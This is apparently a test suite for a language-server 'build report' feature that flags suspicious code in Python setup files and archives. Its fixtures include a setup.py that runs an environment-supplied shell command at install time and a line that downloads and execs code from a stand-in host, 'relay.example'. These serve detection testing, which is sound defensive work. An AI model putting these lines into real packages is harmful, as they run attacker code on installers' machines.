/** The report over the protocol: of projects with links into the code, of archives, and why there is none. */
import { deepStrictEqual, doesNotMatch, match, ok, strictEqual } from 'node:assert';
import type { ReportParams, ReportResult, ShowPlacesArguments } from '../../server/src/lsp/extensions';
import { tarOf } from '../cli/archives';
import type { TestClient } from './client';
import { realWorld } from './real-world';

const SETUP = 'import os\nfrom setuptools import setup\n\nos.system(os.environ["RELAY"])\nsetup(name="tides")\n';
const FILES = { '/ws/setup.py': SETUP, '/ws/nested one/setup.py': 'from setuptools import setup\nsetup(name="nested")\n', '/ws/docs/index.txt': '' };
const COMMAND = 'editor.go';

const ask = (client: TestClient, params: ReportParams): Promise<ReportResult | null> => client.connection.sendRequest('buildglass/report', params);

async function reported(client: TestClient, params: ReportParams): Promise<Exclude<ReportResult, { reason: string }>> {
  const result = await ask(client, params);
  ok(result !== null && !('reason' in result), JSON.stringify(result));
  return result;
}

const hrefs = (body: string): string[] => [...body.matchAll(/href="([^"]*)"/g)].map(([, href]) => href!);

describe('report request', () => {
  it('answers the report of the project around a folder or a file', async () => {
    const { client } = realWorld(FILES);
    await client.initialize({ folders: ['file:///ws'] });
    const of = async (uri: string): Promise<string> => (await reported(client, { uri })).uri;
    deepStrictEqual(await Promise.all(['file:///ws', 'file:///ws/', 'file:///ws/setup.py', 'file:///ws/docs', 'file:///ws/nested%20one', 'file:///ws/nested%20one/setup.py'].map(of)),
      ['file:///ws', 'file:///ws', 'file:///ws', 'file:///ws', 'file:///ws/nested%20one', 'file:///ws/nested%20one']);
    const { body, style } = await reported(client, { uri: 'file:///ws' });
    match(body, /<h1 id="top">Build report/);
    match(body, /os\.system/);
    match(style, /--back:/);
    doesNotMatch(body, /<script|<style|javascript:/);
  });

  it('leads to places by address, or by a command of the client', async () => {
    const { client } = realWorld(FILES);
    await client.initialize({ folders: ['file:///ws'] });
    const call = 'file:///ws/setup.py#4,1';
    ok(hrefs((await reported(client, { uri: 'file:///ws' })).body).includes(call));
    const links = hrefs((await reported(client, { uri: 'file:///ws', command: COMMAND })).body).filter((href) => href.startsWith('command:'));
    const given = links.map((href) => {
      const [command, query] = href.slice('command:'.length).split('?');
      strictEqual(command, COMMAND);
      return JSON.parse(decodeURIComponent(query!)) as ShowPlacesArguments;
    });
    const at = given.find(([, start]) => start.line === 3 && start.character === 0);
    deepStrictEqual(at?.[2].map(({ uri, range }) => [uri, range.start]), [['file:///ws/setup.py', { line: 3, character: 0 }]]);
  });

  it('is about what stands in the editor, saved or not', async () => {
    const { client } = realWorld(FILES);
    await client.initialize({ folders: ['file:///ws'] });
    await client.open('file:///ws/setup.py', 'import urllib.request\nexec(urllib.request.urlopen("https://relay.example").read())\n', 'python');
    const { body } = await reported(client, { uri: 'file:///ws' });
    match(body, /relay\.example/);
    doesNotMatch(body, /RELAY/);
  });

  it('reads archives, whose places lead nowhere outside', async () => {
    const archive = (await tarOf([{ name: 'tides-1.0/setup.py', content: SETUP }])).toString('latin1');
    const { client } = realWorld({ ...FILES, '/ws/dist/tides-1.0.tar': archive });
    await client.initialize({ folders: ['file:///ws'] });
    const { uri, body } = await reported(client, { uri: 'file:///ws/dist/tides-1.0.tar', command: COMMAND });
    strictEqual(uri, 'file:///ws/dist/tides-1.0.tar');
    match(body, /RELAY/);
    deepStrictEqual(hrefs(body).filter((href) => !/^(?:#|https:)/.test(href)), []);
  });

  it('says why an archive cannot be read', async () => {
    const { client } = realWorld({ '/ws/broken.whl': 'no archive' });
    await client.initialize({ folders: ['file:///ws'] });
    const result = await ask(client, { uri: 'file:///ws/broken.whl' });
    ok(result !== null && 'reason' in result);
    match(result.reason, /^broken\.whl /);
  });

  it('takes a folder that is named like an archive for a folder', async () => {
    const { client } = realWorld({ '/ws/odd.zip/setup.py': SETUP });
    await client.initialize({ folders: ['file:///ws'] });
    strictEqual((await reported(client, { uri: 'file:///ws/odd.zip' })).uri, 'file:///ws/odd.zip');
  });

  it('is not given when switched off', async () => {
    const { client } = realWorld(FILES);
    await client.initialize({ folders: ['file:///ws'], options: { enable: false } });
    strictEqual(await ask(client, { uri: 'file:///ws' }), null);
  });
});
